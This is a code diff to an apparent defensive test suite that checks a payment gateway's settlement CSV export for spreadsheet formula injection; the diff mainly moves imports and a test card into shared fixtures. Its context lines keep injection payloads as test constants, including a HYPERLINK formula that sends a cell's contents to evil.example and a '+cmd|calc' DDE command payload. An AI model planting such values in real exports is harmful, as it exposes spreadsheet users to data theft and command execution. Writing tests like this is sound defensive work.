@@ -9,10 +9,11 @@
 import { readFile } from 'node:fs/promises';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { RECONCILIATION_COLUMNS } from '../../shared/settlement';
-import { fakeClock } from '../test-support/clock';
-import { type TestGateway, type TestMerchant, testGateway } from '../test-support/gateway';
+import { fakeClock } from '../test-kit/clock';
+import { VISA_CARD } from '../test-kit/fixtures/cards';
+import { type TestGateway, type TestMerchant, testGateway } from '../test-kit/gateway';
+import { parseCsv } from '../test-kit/settlement/spec-checks';
 import { settleDay } from './settlement-run';
-import { parseCsv } from './testing';
 
 const DAY = '2026-04-01';
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Click")';
@@ -20,15 +21,6 @@ const SUM = '@SUM(1)+1';
 const DESCRIPTOR = '-2+3 Shop descriptor';
 const INVOICE = '+cmd|calc!A0';
 const TAB = '\tTAB-led order';
-const CARD = {
-  paymentBrand: 'VISA',
-  'card.number': '4200000000000000',
-  'card.holder': 'Jane Jones',
-  'card.expiryMonth': '05',
-  'card.expiryYear': '2034',
-  'card.cvv': '123',
-};
-
 describe('formula injection through the reconciliation CSV', () => {
   const clock = fakeClock(`${DAY}T09:00:00.000Z`);
   let gw: TestGateway;
@@ -38,7 +30,14 @@ describe('formula injection through the reconciliation CSV', () => {
   const pay = async (who: TestMerchant, params: Record<string, string>) => {
     const res = await gw.post(
       '/v1/payments',
-      { entityId: who.entityId, amount: '10.00', currency: 'EUR', paymentType: 'DB', ...CARD, ...params },
+      {
+        entityId: who.entityId,
+        amount: '10.00',
+        currency: 'EUR',
+        paymentType: 'DB',
+        ...VISA_CARD,
+        ...params,
+      },
       { token: who.token },
     );
     expect(res.status, res.text).toBe(200);
